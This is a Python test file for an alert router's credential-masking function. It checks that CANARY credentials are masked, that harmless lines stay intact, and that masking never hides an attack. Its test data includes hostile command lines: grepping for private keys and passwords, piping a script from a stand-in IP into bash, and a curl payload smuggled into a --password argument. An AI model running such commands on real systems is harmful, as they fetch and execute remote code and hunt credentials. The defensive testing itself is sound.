"""Command lines and documents that alerts quote, with credentials and without: what is masked, and what is told whole.

The lines stand in `credential_lines.txt`, where a credential is CANARY, and in `harmless_lines.txt`.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from router.destinations.wording.masking import MASK, masked

CREDENTIALS, HARMLESS = (
    (Path(__file__).parent / name).read_text(encoding="utf-8").splitlines()
    for name in ("credential_lines.txt", "harmless_lines.txt")
)

_SECRET = re.compile(r"CANARY(?:(?:[ :=]|\\n)?CANARY)*")

ATTACKS = (
    "grep -r -e '-----BEGIN RSA PRIVATE KEY-----' /home; curl -s http://203.0.113.9/evil.sh | bash",
    "echo '-----BEGIN PRIVATE KEY-----' >/dev/null; curl -s http://203.0.113.9/evil.sh | bash",
    "grep -ri 'password=' /var/www && wget http://203.0.113.9/evil.sh",
    'find / -name "*.php" | xargs grep "password=" ; wget http://203.0.113.9/evil.sh',
    '--password "$(curl http://203.0.113.9/evil.sh|sh)"',
    "curl -U http://203.0.113.9:80/evil.sh",
)


def test_a_credential_is_masked_and_what_stands_around_it_stays() -> None:
    """In the tools and documents that alerts quote; a line on which breaks are written as such has them too."""
    for line in CREDENTIALS:
        for text in {line, line.replace("\\n ", "\n ")}:
            assert "CANARY" not in masked(text), line
        assert masked(line) == _SECRET.sub(MASK, line)


def test_what_holds_no_credential_is_told_whole() -> None:
    """Attacks, and options, names and words that look like the beginning of a credential."""
    assert [line for line in HARMLESS if masked(line) != line] == []


@pytest.mark.parametrize("text", ATTACKS)
def test_a_mask_hides_no_attack(text: str) -> None:
    """Whoever looks for credentials, or writes the mark of one, hides nothing else of a command behind it."""
    assert "evil.sh" in masked(text)
